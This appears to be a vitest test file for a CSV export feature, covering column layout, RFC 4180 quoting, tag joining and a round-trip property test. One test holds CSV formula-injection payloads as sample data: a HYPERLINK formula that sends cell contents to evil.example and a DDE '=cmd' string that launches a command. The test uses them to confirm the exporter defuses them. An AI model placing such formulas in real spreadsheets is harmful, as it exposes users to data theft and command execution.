import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvFields, csvTags, exportCsv } from '../../../utils/export/csv';
import { collect } from './collect';
import { SAMPLE, SAVED_AT, entry } from './entries';

async function csv(entries = SAMPLE): Promise<string> {
  const out = collect();
  await exportCsv(entries, out.sink);
  return out.text();
}

/** Rows as a real CSV parser reads them. */
function rows(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** What a cell must read back as: the value, with the apostrophe a formula start gets. */
const expected = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

describe('exportCsv', () => {
  it('writes Pocket’s columns, seconds, tags joined by "|" and the status', async () => {
    const text = await csv();
    expect(text.startsWith('title,url,time_added,cursor,tags,status\r\n')).toBe(true);
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    const [header, ...data] = rows(text);
    expect(header).toEqual(['title', 'url', 'time_added', 'cursor', 'tags', 'status']);
    expect(data[0]).toEqual([
      'Putin in China to meet ‘dear friend’ Xi',
      'https://news.example/world/putin-xi',
      String(SAVED_AT / 1000),
      '',
      'world|china, russia|a b|say "hi"',
      'unread',
    ]);
    expect(data[1]).toEqual(['بوتين يصل إلى بكين: "صديق عزيز"', 'https://ar.example/news/1', String(SAVED_AT / 1000 + 1), '', 'سياسة', 'archive']);
    expect(data[2]![0]).toBe('普京抵达北京：会见“亲爱的朋友”习近平');
    expect(data[4]![2]).toBe('0');
  });
  it('quotes per RFC 4180 only when needed', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });
  it('defuses cells a spreadsheet would run as a formula', async () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`).replace(/^"/, '').startsWith(`'${start}`)).toBe(true);
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"x")')).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"');
    expect(csvCell('a=1')).toBe('a=1');
    const [, row] = rows(await csv([entry({ article: { title: '=cmd|" /C calc"!A0' }, tags: ['@sum(1)'] })]));
    expect(row![0]).toBe('\'=cmd|" /C calc"!A0');
    expect(row![4]).toBe("'@sum(1)");
  });
  it('makes a "|" inside a tag a space', () => {
    expect(csvTags(['a|b', ' c ', ''])).toBe('a b|c');
  });
  it('parses back to the same cells, for any title, tags and URL (property)', async () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 }).map((s) => s.toWellFormed());
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ title: text, url: fc.webUrl(), tags: fc.array(text, { maxLength: 4 }) }), { minLength: 1, maxLength: 5 }),
        async (items) => {
          const entries = items.map(({ title, url, tags }) => entry({ article: { title, url }, tags }));
          const [, ...data] = rows(await csv(entries));
          expect(data).toEqual(entries.map((e) => csvFields(e).map(expected)));
        },
      ),
      { numRuns: 200 },
    );
  });
});
